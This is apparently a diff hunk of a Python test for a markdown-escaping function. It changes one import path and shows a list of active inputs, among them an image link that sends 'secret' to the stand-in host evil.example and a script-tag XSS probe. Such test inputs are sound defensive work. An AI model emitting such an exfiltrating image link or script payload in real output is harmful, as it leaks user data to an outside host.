@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from service.openai_api.markdown import escaped
+from service.wording.markdown import escaped
 
 ACTIVE = [
     "![x](http://evil.example?d=secret)", "[a](b)", "<script>alert(1)</script>", "<b>", "**bold**", "_it_",
